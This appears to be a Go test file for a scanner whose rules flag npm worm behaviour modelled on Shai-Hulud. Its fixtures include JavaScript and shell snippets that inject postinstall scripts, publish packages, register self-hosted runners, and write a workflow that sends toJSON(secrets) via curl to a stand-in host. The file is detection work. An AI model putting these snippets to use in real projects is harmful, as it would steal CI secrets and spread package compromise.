package rules

import (
	"encoding/json"
	"testing"
)

// The worm snippets below are written for these tests: they show the
// shape of each step (Shai-Hulud's, September and November 2025) with
// made-up names and reserved domains, and do nothing when read.

func TestNPMPublish(t *testing.T) {
	runCases(t, NPMPublish, []ruleCase{
		{"publish loop", one("lib/release.js", `const {execSync} = require('child_process');
for (const dir of dirs) execSync('npm publish --access public', {cwd: dir});`), Medium, "runs npm publish"},
		{"maintainer enumeration", one("bundle.js", "const res = await fetch(`https://registry.npmjs.org/-/v1/search?text=maintainer:${user}&size=250`);"), High, "enumerates the packages"},
		{"access list (lerna's permission check)", one("a.js", "throw new Error('Registry does not support `npm access list packages`')"), Low, "can access"},
		{"whoami alone", one("a.js", `const r = await fetch(registry + '/-/whoami', {headers})`), Low, "which npm account"},
		{"token alone", one("a.js", `const token = process.env.NPM_TOKEN;`), Low, "NPM_TOKEN"},
		{"registry PUT", one("a.js", `const body = {_id: name, _attachments: {[file]: {data: tgz.toString('base64')}}};
https.request({host: 'registry.npmjs.org', path: '/' + name, method: 'PUT'}).end(JSON.stringify(body))`), Medium, "PUT request"},
		{"profile PUT", one("a.js", `const HOST = 'registry.npmjs.org'; fetch(HOST + '/-/npm/v1/user', {method: 'PUT', body})`), "", ""},
		{"tokens api", one("a.js", `get('https://registry.npmjs.org/-/npm/v1/tokens')`), Low, "npm tokens"},
		{"install time", installPkg(`const t = process.env.NPM_TOKEN; require('child_process').execSync('npm publish');`), Critical, "install time"},
		{"token at install time", installPkg(`if (process.env.NODE_AUTH_TOKEN) console.log('ci');`), High, "install time"},
		{"install script", map[string]string{"package.json": manifest("x", map[string]string{"postinstall": "npm whoami && npm publish"})}, Critical, "postinstall script"},
		{"shell script", one("scripts/release.sh", "#!/bin/sh\nset -e\nnpm publish --tag next\n"), Medium, "npm publish"},
		// Negatives.
		{"help text", one("lib/cli.js", `console.log('Run npm publish when ready')`), "", ""},
		{"comment in script", one("release.sh", "# npm publish is done by CI\necho ok\n"), "", ""},
		{"registry read", one("a.js", `fetch('https://registry.npmjs.org/' + name).then(r => r.json())`), "", ""},
	})
}

func TestManifestRewrite(t *testing.T) {
	inject := `const fs = require('fs');
const pkg = JSON.parse(fs.readFileSync(dir + '/package.json', 'utf8'));
pkg.version = bump(pkg.version);
pkg.scripts.postinstall = 'node bundle.js';
fs.writeFileSync(dir + '/package.json', JSON.stringify(pkg));`
	runCases(t, ManifestRewrite, []ruleCase{
		{"postinstall injection", one("bundle.js", inject), High, "install script"},
		{"spread scripts", one("a.js", `const fs = require('fs'); const p = 'package.json';
fs.writeFileSync(p, JSON.stringify({...pkg, scripts: {...pkg.scripts, preinstall: 'node x.js'}}))`), High, "install script"},
		{"at install time", installPkg(inject), Critical, "install time"},
		{"repack and publish", one("a.js", `const cp = require('child_process');
cp.execSync('tar -czf ' + out + ' package'); cp.execSync('npm publish ' + out);`), High, "repacks a tarball and publishes it"},
		{"version bump only", one("lib/version.js", `const fs = require('fs');
pkg.version = next; fs.writeFileSync(path.join(root, 'package.json'), JSON.stringify(pkg, null, 2));`), Info, "version"},
		{"version bump at install time", installPkg(`const fs = require('fs'); pkg.version = next; fs.writeFileSync('package.json', JSON.stringify(pkg))`), High, "install time"},
		// Negatives.
		{"reads package.json", one("a.js", `const fs = require('fs'); const v = JSON.parse(fs.readFileSync('package.json')).version;`), "", ""},
		{"compares scripts", one("a.js", `const fs = require('fs'); if (pkg.scripts.postinstall === undefined) fs.writeFileSync('out.txt', 'package.json ok')`), "", ""},
		{"package manager's node-gyp default", one("a.js", `const fs = require('fs'); if (gyp) manifest.scripts.install = "node-gyp rebuild"; fs.writeFileSync(dir + '/package.json', s)`), "", ""},
		{"embedded manifest literal", one("gen.js", `const fs = require('fs'); const own = {name: 'x', scripts: {build: "tsc", generate: "node scripts/postinstall.js",
  postinstall: "node scripts/postinstall.js"}}; fs.writeFileSync(out + '/package.json', JSON.stringify({name: '.x/client', version: own.version}))`), "", ""},
		{"semver class", one("a.js", `const fs = require('fs'); class SemVer { format() { this.version = this.major + '.' + this.minor; return this.version } } fs.writeFileSync('package.json', s)`), "", ""},
		{"pack without edit", one("a.js", `require('child_process').execSync('npm pack')`), "", ""},
	})
}

func TestGitHubAbuse(t *testing.T) {
	runCases(t, GitHubAbuse, []ruleCase{
		{"create repo", one("a.js", `await fetch('https://api.github.com/user/repos', {method: 'POST', body: JSON.stringify({name: n, private: false})})`), Medium, "creates GitHub repositories"},
		{"shai-hulud repo", one("a.js", `await fetch('https://api.github.com/user/repos', {method: 'POST', body: JSON.stringify({name: 'Shai-Hulud'})})`), High, "Shai-Hulud"},
		{"runner token", one("a.js", "const r = await gh.post(`https://api.github.com/repos/${o}/${r}/actions/runners/registration-token`);"), High, "runner registration"},
		{"secrets", one("a.js", "get(`https://api.github.com/repos/${o}/${r}/actions/secrets`)"), Medium, "Actions secrets"},
		{"two steps", one("a.js", "get(`https://api.github.com/repos/${o}/${r}/actions/secrets`); require('child_process').execSync('gh repo create x --public')"), High, "creates GitHub repositories; reads GitHub Actions secrets"},
		{"install time", installPkg(`require('child_process').execSync('gh repo create loot --public')`), Critical, "install time"},
		// Negatives: API clients' route tables.
		{"octokit routes", one("endpoints.js", `module.exports = {createForAuthenticatedUser: ["POST /user/repos"], createRegistrationTokenForRepo: ["POST /repos/{owner}/{repo}/actions/runners/registration-token"], listRepoSecrets: ["GET /repos/{owner}/{repo}/actions/secrets"]}`), "", ""},
		{"express route", one("a.js", `app.get('/repos/:owner/:repo/actions/secrets', handler)`), "", ""},
	})
}

func TestWorkflowWrite(t *testing.T) {
	wf := "name: ci\non: push\njobs:\n  x:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo '${{ toJSON(secrets) }}' | curl -d @- https://x.invalid\n"
	src := `const fs = require('fs'); fs.mkdirSync('.github/workflows', {recursive: true});
fs.writeFileSync('.github/workflows/shai-hulud-workflow.yml', ` + jsString(wf) + `);`
	runCases(t, WorkflowWrite, []ruleCase{
		{"secrets dump", one("a.js", src), High, "toJSON(secrets)"},
		{"at install time", installPkg(src), Critical, "install time"},
		{"generator", one("generators/ci.js", `const fs = require('fs'); fs.writeFileSync(path.join(root, '.github/workflows/ci.yml'), template)`), Medium, "writes a GitHub Actions workflow"},
		{"git push of workflow", one("a.js", `const cp = require('child_process'); cp.execSync('git add .github/workflows/x.yml && git push')`), Medium, ".github/workflows"},
		// Negatives.
		{"mention only", one("a.js", `console.log('see .github/workflows/ci.yml')`), "", ""},
		{"reads workflows", one("a.js", `const fs = require('fs'); const y = fs.readFileSync('.github/workflows/ci.yml', 'utf8')`), "", ""},
	})
}

func TestSelfHostedRunner(t *testing.T) {
	runCases(t, SelfHostedRunner, []ruleCase{
		{"configure", one("a.js", "const {execSync} = require('child_process');\nexecSync(`./config.sh --url https://github.com/${o}/${r} --unattended --token ${t} --name SHA1HULUD`);"), High, "registers a self-hosted"},
		{"download", one("a.js", "https.get(`https://github.com/actions/runner/releases/download/v${v}/actions-runner-linux-x64-${v}.tar.gz`, save)"), Medium, "downloads the GitHub Actions runner"},
		{"script", one("setup.sh", "curl -o r.tgz -L https://github.com/actions/runner/releases/download/v2.328.0/actions-runner-linux-x64-2.328.0.tar.gz\n./config.sh --url https://github.com/o/r --token $T\n./run.sh &\n"), High, "registers"},
		{"at install time", installPkg("require('child_process').execSync('./config.sh --url https://github.com/a/b --token ' + t)"), Critical, "install time"},
		// Negatives.
		{"other config.sh", one("a.js", `require('child_process').execSync('./config.sh --prefix=/usr')`), "", ""},
		{"runner word", one("a.js", `const runner = new TestRunner({ url: u, token: t })`), "", ""},
	})
}

func jsString(s string) string {
	b, _ := json.Marshal(s)
	return string(b)
}
